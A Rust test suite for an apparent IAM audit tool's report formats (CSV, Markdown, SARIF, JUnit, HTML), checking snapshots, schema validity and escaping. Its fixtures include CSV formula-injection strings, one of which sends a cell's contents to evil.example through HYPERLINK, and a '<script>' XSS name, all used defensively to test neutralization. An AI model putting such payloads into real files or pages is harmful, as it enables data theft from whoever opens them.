//! Every report format on the same fixtures: each sample snapshot in
//! `snapshots/` and `tests/fixtures/hostile-names/` (names that start with
//! formula characters, hold pipes, `<script>`, quotes, commas, line breaks,
//! Markdown syntax and non-ASCII text). Each output is compared with its
//! committed insta snapshot, parsed back with the format's standard parser
//! and checked against the JSON report's counts; SARIF is validated against
//! the OASIS schema. The HTML page's own tests, in a real browser, are in
//! `tests/html.rs`.

mod common;

use std::collections::BTreeMap;

use common::*;
use serde_json::Value;

const FORMATS: &[&str] = &["csv", "markdown", "sarif", "junit", "html"];

fn render(path: &str, format: &str) -> String {
    render_format(path, format)
}

fn json(path: &str) -> Value {
    json_report(&[path]).1
}

#[test]
fn every_format_of_every_fixture_matches_its_snapshot() {
    for (name, path) in FORMAT_FIXTURES {
        for format in FORMATS {
            let text = render(path, format);
            assert_eq!(text, render(path, format), "{format} is not deterministic");
            insta::assert_snapshot!(format!("{format}_{name}"), text);
        }
    }
}

#[test]
fn a_file_given_with_output_holds_the_same_bytes_as_stdout() {
    let tmp = tempfile::tempdir().unwrap();
    for format in FORMATS {
        let file = tmp.path().join(format!("report.{format}"));
        let out = run(&[
            "evaluate",
            "snapshots/demo",
            "--format",
            format,
            "-o",
            file.to_str().unwrap(),
        ]);
        assert_eq!(out.status.code(), Some(1));
        assert_eq!(
            std::fs::read_to_string(&file).unwrap(),
            render("snapshots/demo", format)
        );
    }
}

// ---------------------------------------------------------------- CSV

#[test]
fn csv_parses_back_one_row_per_result_with_no_formula_cell() {
    let formula = ['=', '+', '-', '@', '\t', '\r', '\n'];
    for (_, path) in FORMAT_FIXTURES {
        let report = json(path);
        let text = render(path, "csv");
        let mut reader = csv::ReaderBuilder::new()
            .has_headers(true)
            .from_reader(text.as_bytes());
        let header: Vec<String> = reader.headers().unwrap().iter().map(String::from).collect();
        assert_eq!(header, iam_audit::report::csv::COLUMNS);
        let rows: Vec<csv::StringRecord> = reader.records().map(|r| r.unwrap()).collect();
        let results = report["results"].as_array().unwrap();
        assert_eq!(rows.len(), results.len(), "{path}");
        for (row, result) in rows.iter().zip(results) {
            assert_eq!(row.len(), header.len());
            for cell in row.iter() {
                assert!(
                    !cell.starts_with(formula),
                    "{path}: cell `{cell}` starts with a formula character"
                );
            }
            // Undoing the documented neutralization gives the data back.
            let undo = |cell: &str| match cell.strip_prefix('\'') {
                Some(rest) if rest.starts_with(formula) => rest.to_string(),
                _ => cell.to_string(),
            };
            assert_eq!(undo(&row[5]), result["subject"].as_str().unwrap());
            assert_eq!(undo(&row[6]), result["principal"].as_str().unwrap());
            assert_eq!(undo(&row[9]), result["message"].as_str().unwrap());
            assert_eq!(&row[4], result["status"].as_str().unwrap());
            assert_eq!(undo(&row[15]), result["id"].as_str().unwrap());
        }
    }
}

#[test]
fn csv_neutralizes_a_hostile_sid_in_a_message_and_keeps_commas_and_quotes() {
    let text = render("tests/fixtures/hostile-names", "csv");
    let mut reader = csv::Reader::from_reader(text.as_bytes());
    let subjects: Vec<String> = reader
        .records()
        .map(|r| r.unwrap()[5].to_string())
        .collect();
    assert!(subjects.contains(&"arn:aws:iam::123456789012:role/support-\"quoted\",comma".into()));
    assert!(subjects.contains(&"arn:aws:iam::123456789012:user/multi\nline\r\nname".into()));
    assert!(text.contains("\r\n"), "RFC 4180 line ends");
    // Trust principals named like formulas: present, and neutralized.
    let principals: Vec<String> = csv::Reader::from_reader(text.as_bytes())
        .records()
        .map(|r| r.unwrap()[6].to_string())
        .collect();
    for formula in ["'-1+2", "'=1+1", "'@SUM(1)"] {
        assert!(principals.iter().any(|p| p == formula), "{formula}");
    }
}

/// Rows of a CSV report as maps from column name to cell.
fn csv_rows(text: &str) -> Vec<BTreeMap<String, String>> {
    let mut reader = csv::Reader::from_reader(text.as_bytes());
    let header: Vec<String> = reader.headers().unwrap().iter().map(String::from).collect();
    reader
        .records()
        .map(|r| {
            header
                .iter()
                .cloned()
                .zip(r.unwrap().iter().map(String::from))
                .collect()
        })
        .collect()
}

#[test]
fn csv_byte_order_mark_on_request_and_new_columns_after_benchmark_control() {
    for (_, path) in FORMAT_FIXTURES {
        // By default the header's first bytes are `account`, as before.
        let text = render(path, "csv");
        assert!(text.starts_with("account,policy,"), "{path}");
        // `--csv-bom`: one byte-order mark, then the same bytes.
        let out = run(&["evaluate", path, "--format", "csv", "--csv-bom"]);
        let with_bom = stdout(&out);
        assert!(
            with_bom
                .as_bytes()
                .starts_with(b"\xEF\xBB\xBFaccount,policy,"),
            "{path}"
        );
        assert_eq!(&with_bom[3..], text, "{path}");
    }
    let columns = iam_audit::report::csv::COLUMNS;
    let last_old = columns
        .iter()
        .position(|c| *c == "benchmark_control")
        .unwrap();
    assert_eq!(last_old, 16, "the first 17 columns never move");
    assert_eq!(
        columns[last_old + 1..],
        [
            "as_of",
            "waiver_reason",
            "waiver_approver",
            "waiver_expires",
            "requirements"
        ]
    );
}

/// Under `--benchmark` every result's `requirements` cell holds its
/// requirement tags, as the JSON report lists them; without, it is empty.
#[test]
fn csv_requirements_column_holds_each_results_requirements() {
    let args = ["snapshots/demo", "--benchmark", "cis-aws-v5.0"];
    let (_, report) = json_report(&args);
    let out = run(&[
        "evaluate",
        "snapshots/demo",
        "--benchmark",
        "cis-aws-v5.0",
        "--format",
        "csv",
    ]);
    let text = stdout(&out);
    let mut reader = csv::Reader::from_reader(text.as_bytes());
    let headers = reader.headers().unwrap().clone();
    let col = headers.iter().position(|h| h == "requirements").unwrap();
    let id = headers.iter().position(|h| h == "result_id").unwrap();
    let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
    let results = report["results"].as_array().unwrap();
    assert_eq!(rows.len(), results.len());
    for (row, r) in rows.iter().zip(results) {
        assert_eq!(row[id], *r["id"].as_str().unwrap());
        let tags: Vec<&str> = r["requirements"]
            .as_array()
            .unwrap()
            .iter()
            .map(|t| t.as_str().unwrap())
            .collect();
        assert!(!tags.is_empty());
        assert_eq!(row[col], tags.join(" "));
    }
    let plain = render("snapshots/demo", "csv");
    let mut reader = csv::Reader::from_reader(plain.as_bytes());
    assert!(reader.records().all(|r| r.unwrap()[col].is_empty()));
}

#[test]
fn csv_as_of_is_each_results_snapshot_time() {
    for path in ["snapshots/demo", "snapshots/org"] {
        let report = json(path);
        let as_of: BTreeMap<&str, &str> = report["snapshots"]
            .as_array()
            .unwrap()
            .iter()
            .map(|s| (s["account"].as_str().unwrap(), s["as_of"].as_str().unwrap()))
            .collect();
        let rows = csv_rows(&render(path, "csv"));
        assert!(!rows.is_empty());
        for row in &rows {
            assert_eq!(row["as_of"], as_of[row["account"].as_str()], "{path}");
        }
        if path == "snapshots/org" {
            // Two accounts exported at different times: both times appear.
            let times: std::collections::BTreeSet<&str> =
                rows.iter().map(|r| r["as_of"].as_str()).collect();
            assert_eq!(times.len(), 2, "{times:?}");
        }
    }
    // A bare CSV credential report carries no time: the cell is empty.
    let rows = csv_rows(&render("tests/fixtures/hostile-names", "csv"));
    let report = json("tests/fixtures/hostile-names");
    assert!(report["snapshots"][0]["as_of"].is_null());
    assert!(rows.iter().all(|r| r["as_of"].is_empty()));
}

#[test]
fn csv_waiver_columns_hold_the_waiver_of_waived_rows_only_and_are_neutralized() {
    let out = run(&[
        "evaluate",
        "snapshots/demo",
        "--waivers",
        "tests/fixtures/waivers/demo.json",
        "--format",
        "csv",
    ]);
    assert_eq!(out.status.code(), Some(1), "{}", stderr(&out));
    let rows = csv_rows(&stdout(&out));
    let bob = rows
        .iter()
        .find(|r| {
            r["result_id"] == "console-password-requires-mfa/arn:aws:iam::123456789012:user/bob"
        })
        .unwrap();
    assert_eq!(bob["status"], "waived");
    assert_eq!(
        bob["waiver_reason"],
        "break-glass user; hardware MFA token ordered (ticket SEC-142)"
    );
    assert_eq!(bob["waiver_approver"], "ciso@example.com");
    assert_eq!(bob["waiver_expires"], "2026-12-01");
    let waived = rows.iter().filter(|r| r["status"] == "waived").count();
    assert_eq!(waived, 2);
    for row in rows.iter().filter(|r| r["status"] != "waived") {
        for column in ["waiver_reason", "waiver_approver", "waiver_expires"] {
            assert_eq!(row[column], "", "{column} on {}", row["result_id"]);
        }
    }

    // A waiver whose reason and approver read as formulas.
    let tmp = tempfile::tempdir().unwrap();
    let file = tmp.path().join("w.json");
    std::fs::write(
        &file,
        r#"{"waivers": [{"policy": "console-password-requires-mfa",
            "subject": "arn:aws:iam::123456789012:user/bob",
            "reason": "=HYPERLINK(\"http://x\",\"ok\")", "approver": "@SUM(1)",
            "expires": "2099-01-01"}]}"#,
    )
    .unwrap();
    let out = run(&[
        "evaluate",
        "snapshots/demo",
        "--waivers",
        file.to_str().unwrap(),
        "--format",
        "csv",
    ]);
    assert_eq!(out.status.code(), Some(1), "{}", stderr(&out));
    let rows = csv_rows(&stdout(&out));
    let bob = rows.iter().find(|r| r["status"] == "waived").unwrap();
    assert_eq!(bob["waiver_reason"], "'=HYPERLINK(\"http://x\",\"ok\")");
    assert_eq!(bob["waiver_approver"], "'@SUM(1)");
    assert_eq!(bob["waiver_expires"], "2099-01-01");
}

// ----------------------------------------------------------- Markdown

/// Cells of a Markdown table row: split on pipes not escaped by a backslash.
fn markdown_cells(row: &str) -> usize {
    let mut cells: usize = 0;
    let mut escaped = false;
    for c in row.chars() {
        match c {
            '\\' if !escaped => escaped = true,
            '|' if !escaped => cells += 1,
            _ => escaped = false,
        }
    }
    cells.saturating_sub(1)
}

#[test]
fn markdown_tables_keep_their_shape_with_hostile_names() {
    for (_, path) in FORMAT_FIXTURES {
        let text = render(path, "markdown");
        let mut columns: Option<usize> = None;
        for line in text.lines() {
            if !line.starts_with('|') {
                columns = None;
                continue;
            }
            let n = markdown_cells(line);
            match columns {
                None => columns = Some(n),
                Some(expected) => assert_eq!(n, expected, "{path}: row breaks its table: {line}"),
            }
        }
        // No raw HTML: every `<` is backslash-escaped.
        for (i, _) in text.match_indices('<') {
            assert!(
                text[..i].ends_with('\\'),
                "{path}: unescaped `<` at byte {i}"
            );
        }
    }
}

#[test]
fn markdown_lists_every_failing_subject_with_its_control() {
    let text = render("tests/fixtures/hostile-names", "markdown");
    let report = json("tests/fixtures/hostile-names");
    let fails = subjects_with(&report, "fail");
    let failing_rows = text.lines().filter(|l| l.starts_with("| fail |")).count();
    assert_eq!(failing_rows, fails.values().map(|s| s.len()).sum::<usize>());
    assert!(text.contains("user/pipe\\|name\\|x"));
    assert!(text.contains("\\<script\\>document.title='pwned'\\</script\\>"));
    assert!(text.contains("multi\\\\nline\\\\r\\\\nname"));
    assert!(text.contains("## Scope") && text.contains("### Evidence"));
    for e in report["evidence"].as_array().unwrap() {
        assert!(text.contains(e["sha256"].as_str().unwrap()));
    }
}

// -------------------------------------------------------------- SARIF

fn sarif_validator() -> jsonschema::Validator {
    let schema: Value = serde_json::from_str(
        &std::fs::read_to_string(root().join("schemas/sarif-schema-2.1.0.json")).unwrap(),
    )
    .unwrap();
    jsonschema::validator_for(&schema).expect("the SARIF schema compiles")
}

#[test]
fn sarif_is_valid_against_the_oasis_schema() {
    let validator = sarif_validator();
    for (_, path) in FORMAT_FIXTURES {
        let log: Value = serde_json::from_str(&render(path, "sarif")).unwrap();
        let errors: Vec<String> = validator
            .iter_errors(&log)
            .map(|e| format!("{}: {e}", e.instance_path()))
            .collect();
        assert!(errors.is_empty(), "{path}:\n{}", errors.join("\n"));
    }
}

#[test]
fn the_sarif_schema_rejects_a_broken_log() {
    // The validation above would be worthless if the schema accepted anything.
    let validator = sarif_validator();
    let mut log: Value = serde_json::from_str(&render("snapshots/demo", "sarif")).unwrap();
    log["runs"][0]["results"][0]["level"] = "fatal".into();
    assert!(!validator.is_valid(&log));
    log["version"] = "2.0.0".into();
    assert!(!validator.is_valid(&log));
}

#[test]
fn sarif_has_a_rule_per_policy_and_a_result_per_failure_and_error() {
    for (_, path) in FORMAT_FIXTURES {
        let report = json(path);
        let log: Value = serde_json::from_str(&render(path, "sarif")).unwrap();
        let run = &log["runs"][0];
        let rules = run["tool"]["driver"]["rules"].as_array().unwrap();
        let policies = report["policies"].as_array().unwrap();
        assert_eq!(rules.len(), policies.len());
        for (rule, policy) in rules.iter().zip(policies) {
            assert_eq!(rule["id"], policy["id"]);
            let want = match policy["severity"].as_str().unwrap() {
                "critical" | "high" => "error",
                "medium" => "warning",
                _ => "note",
            };
            assert_eq!(rule["defaultConfiguration"]["level"], want);
            if let Some(fix) = policy.get("remediation") {
                assert_eq!(&rule["help"]["text"], fix);
            }
        }
        let results = run["results"].as_array().unwrap();
        let summary = &report["summary"];
        assert_eq!(
            results.len() as u64,
            summary["fail"].as_u64().unwrap()
                + summary["error"].as_u64().unwrap()
                + summary["waived"].as_u64().unwrap(),
            "{path}"
        );
        for r in results {
            let rule = &rules[r["ruleIndex"].as_u64().unwrap() as usize];
            assert_eq!(r["ruleId"], rule["id"]);
            if r["properties"]["status"] == "error" {
                assert_eq!(r["level"], "error");
            } else {
                assert_eq!(r["level"], rule["defaultConfiguration"]["level"]);
            }
        }
    }
}

#[test]
fn sarif_locates_rows_lines_and_json_pointers() {
    let report = json("tests/fixtures/hostile-names");
    let log: Value =
        serde_json::from_str(&render("tests/fixtures/hostile-names", "sarif")).unwrap();
    let by_id: BTreeMap<&str, &Value> = report["results"]
        .as_array()
        .unwrap()
        .iter()
        .map(|r| (r["id"].as_str().unwrap(), r))
        .collect();
    let mut lines = 0;
    let mut pointers = 0;
    for r in log["runs"][0]["results"].as_array().unwrap() {
        let id = r["partialFingerprints"]["iamAuditResultId/v1"]
            .as_str()
            .unwrap();
        let json_result = by_id[id];
        let location = &r["locations"][0];
        let logical = location["logicalLocations"].as_array().unwrap();
        assert_eq!(logical[0]["fullyQualifiedName"], json_result["subject"]);
        let evidence = &json_result["location"];
        if let Some(line) = evidence.get("line") {
            assert_eq!(&location["physicalLocation"]["region"]["startLine"], line);
        }
        if let Some(pointer) = evidence.get("pointer") {
            assert_eq!(&logical[1]["name"], pointer);
            assert_eq!(logical[1]["kind"], "member");
            // A JSON location has the line of its pointer's value too
            // (tests/regions.rs checks which line).
            assert!(evidence.get("line").is_some(), "{id}");
            pointers += 1;
        } else if evidence.get("line").is_some() {
            assert_eq!(
                location["physicalLocation"]["artifactLocation"]["uri"],
                "credential-report.csv"
            );
            lines += 1;
        }
    }
    // Console MFA's and users-have-mfa's failing users.
    assert_eq!(lines, 19, "every failing user row is located by its line");
    assert_eq!(
        pointers, 2,
        "the trust statement and the broken trust policy"
    );

    // The user with a line break in its name: its row starts on line 11.
    let multi =
        &by_id["console-password-requires-mfa/arn:aws:iam::123456789012:user/multi\nline\r\nname"];
    assert_eq!(multi["location"]["line"], 11);
}

#[test]
fn sarif_for_an_envelope_points_at_content_and_for_an_org_prefixes_the_account_folder() {
    let log: Value = serde_json::from_str(&render("snapshots/org", "sarif")).unwrap();
    let results = log["runs"][0]["results"].as_array().unwrap();
    assert!(!results.is_empty());
    for r in results {
        let location = &r["locations"][0];
        let uri = location["physicalLocation"]["artifactLocation"]["uri"]
            .as_str()
            .unwrap();
        assert!(uri.starts_with("111111111111-prod/") || uri.starts_with("222222222222-dev/"));
        if uri.ends_with("credential-report.json") {
            // The row is inside the base64 `Content`: the region is the
            // line of `Content` in the file.
            let text = std::fs::read_to_string(root().join("snapshots/org").join(uri)).unwrap();
            let content = text.find("\"Content\"").unwrap();
            let line = text[..content].matches('\n').count() + 1;
            assert_eq!(
                location["physicalLocation"]["region"]["startLine"],
                line as u64
            );
            assert_eq!(location["logicalLocations"][1]["name"], "/Content");
        }
    }
}

#[test]
fn sarif_rules_carry_github_security_severity() {
    for (_, path) in FORMAT_FIXTURES {
        let log: Value = serde_json::from_str(&render(path, "sarif")).unwrap();
        let rules = log["runs"][0]["tool"]["driver"]["rules"]
            .as_array()
            .unwrap();
        for rule in rules {
            let severity = rule["properties"]["severity"].as_str().unwrap();
            let score: f64 = rule["properties"]["security-severity"]
                .as_str()
                .expect("security-severity is a numeric string")
                .parse()
                .unwrap();
            // GitHub's bands: >= 9.0 critical, 7.0-8.9 high, 4.0-6.9 medium, 0.1-3.9 low.
            let band = match score {
                s if s >= 9.0 => "critical",
                s if s >= 7.0 => "high",
                s if s >= 4.0 => "medium",
                s if s >= 0.1 => "low",
                _ => "info",
            };
            assert_eq!(band, severity, "{}", rule["id"]);
        }
    }
}

#[test]
fn sarif_artifact_uris_are_relative_to_a_described_evidence_base() {
    for (_, path) in FORMAT_FIXTURES {
        let log: Value = serde_json::from_str(&render(path, "sarif")).unwrap();
        let run = &log["runs"][0];
        let base = &run["originalUriBaseIds"]["EVIDENCE"];
        assert!(base["description"]["text"]
            .as_str()
            .unwrap()
            .contains("evaluate"));
        // No absolute path of the machine that made the report.
        assert!(base.get("uri").is_none(), "{path}: {base}");
        let mut locations: Vec<&Value> = run["artifacts"]
            .as_array()
            .unwrap()
            .iter()
            .map(|a| &a["location"])
            .collect();
        for r in run["results"].as_array().unwrap() {
            if let Some(l) = r["locations"][0]["physicalLocation"].get("artifactLocation") {
                locations.push(l);
            }
        }
        // Every artifact, and every result that names a file, is checked.
        let artifacts = run["artifacts"].as_array().unwrap().len();
        assert!(artifacts > 0, "{path}");
        if !run["results"].as_array().unwrap().is_empty() {
            assert!(
                locations.len() > artifacts,
                "{path}: no result location checked"
            );
        }
        for l in locations {
            assert_eq!(l["uriBaseId"], "EVIDENCE", "{path}: {l}");
            let uri = l["uri"].as_str().unwrap();
            assert!(!uri.starts_with('/') && !uri.contains(':'), "{path}: {uri}");
        }
        assert!(run["tool"]["driver"].get("informationUri").is_none());
    }
}

#[test]
fn sarif_automation_id_is_a_category_per_account_or_organization() {
    let id = |path: &str| {
        let log: Value = serde_json::from_str(&render(path, "sarif")).unwrap();
        log["runs"][0]["automationDetails"]["id"]
            .as_str()
            .unwrap()
            .to_string()
    };
    assert_eq!(id("snapshots/demo"), "iam-audit/123456789012/");
    assert_eq!(id("snapshots/org"), "iam-audit/organization/");
}

// -------------------------------------------------------------- JUnit

#[derive(Default, Debug, PartialEq)]
struct JunitCounts {
    suites: usize,
    cases: usize,
    failures: usize,
    errors: usize,
    skipped: usize,
    names: Vec<String>,
}

fn parse_junit(text: &str) -> JunitCounts {
    use quick_xml::events::Event;
    let mut reader = quick_xml::Reader::from_str(text);
    let mut counts = JunitCounts::default();
    loop {
        match reader.read_event().expect("well-formed XML") {
            Event::Eof => break,
            Event::Start(e) | Event::Empty(e) => match e.name().as_ref() {
                b"testsuite" => counts.suites += 1,
                b"testcase" => {
                    counts.cases += 1;
                    let name = e
                        .try_get_attribute("name")
                        .unwrap()
                        .expect("a name")
                        .normalized_value(quick_xml::XmlVersion::Explicit1_0)
                        .expect("valid escapes")
                        .into_owned();
                    counts.names.push(name);
                }
                b"failure" => counts.failures += 1,
                b"error" => counts.errors += 1,
                b"skipped" => counts.skipped += 1,
                _ => {}
            },
            Event::Text(t) => {
                t.decode().expect("text decodes");
            }
            _ => {}
        }
    }
    counts
}

#[test]
fn junit_parses_back_and_its_counts_match_the_json_summary() {
    for (_, path) in FORMAT_FIXTURES {
        let report = json(path);
        let text = render(path, "junit");
        let counts = parse_junit(&text);
        let s = &report["summary"];
        let n = |k: &str| s[k].as_u64().unwrap() as usize;
        assert_eq!(counts.suites, report["policies"].as_array().unwrap().len());
        assert_eq!(counts.cases, n("total"), "{path}");
        assert_eq!(counts.failures, n("fail"), "{path}");
        assert_eq!(counts.errors, n("error"), "{path}");
        assert_eq!(
            counts.skipped,
            n("not-evaluated") + n("not-applicable") + n("waived"),
            "{path}"
        );
        let root_line = text.lines().nth(1).unwrap();
        assert!(root_line.contains(&format!("tests=\"{}\"", n("total"))));
        assert!(root_line.contains(&format!("failures=\"{}\"", n("fail"))));
    }
}

#[test]
fn junit_case_names_round_trip_through_the_xml_parser() {
    let counts = parse_junit(&render("tests/fixtures/hostile-names", "junit"));
    for name in [
        "arn:aws:iam::123456789012:user/<script>document.title='pwned'</script>",
        "arn:aws:iam::123456789012:user/quote\"d'name",
        "arn:aws:iam::123456789012:user/=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")",
        // Line breaks are shown as visible escapes, never raw in an attribute.
        "arn:aws:iam::123456789012:user/multi\\nline\\r\\nname",
    ] {
        assert!(
            counts.names.iter().any(|n| n == name),
            "missing {name}: {:?}",
            counts.names
        );
    }
}

// --------------------------------------------------------------- HTML

/// Several `-o` in one run: each file in the format its extension names,
/// byte for byte what a run of that format alone writes; an extension that
/// names no format is refused before anything is evaluated or written.
#[test]
fn several_outputs_in_one_run_equal_one_run_per_format() {
    let tmp = tempfile::tempdir().unwrap();
    let at = |name: &str| tmp.path().join(name).to_str().unwrap().to_string();
    let files = [
        ("r.json", "json"),
        ("r.sarif", "sarif"),
        ("r.xml", "junit"),
        ("r.md", "markdown"),
        ("r.csv", "csv"),
        ("r.html", "html"),
        ("r.txt", "table"),
    ];
    let mut args = vec!["evaluate".to_string(), "snapshots/demo".to_string()];
    for (name, _) in files {
        args.push("-o".into());
        args.push(at(name));
    }
    let argv: Vec<&str> = args.iter().map(String::as_str).collect();
    let out = run(&argv);
    assert_eq!(out.status.code(), Some(1), "{}", stderr(&out));
    assert!(out.stdout.is_empty());
    for (name, format) in files {
        let alone = at(&format!("alone-{name}"));
        let single = run(&[
            "evaluate",
            "snapshots/demo",
            "--format",
            format,
            "-o",
            &alone,
        ]);
        assert_eq!(single.status.code(), Some(1));
        assert_eq!(
            std::fs::read(at(name)).unwrap(),
            std::fs::read(&alone).unwrap(),
            "{name}"
        );
    }

    let refused = run(&[
        "evaluate",
        "snapshots/demo",
        "-o",
        &at("x.json"),
        "-o",
        &at("x.pdf"),
    ]);
    assert_eq!(refused.status.code(), Some(2));
    assert!(
        stderr(&refused).contains("`.pdf` names none"),
        "{}",
        stderr(&refused)
    );
    assert!(!tmp.path().join("x.json").exists());
    let twice = run(&[
        "evaluate",
        "snapshots/demo",
        "-o",
        &at("y.json"),
        "-o",
        &at("y.json"),
    ]);
    assert_eq!(twice.status.code(), Some(2));
    assert!(stderr(&twice).contains("is given twice"));
}
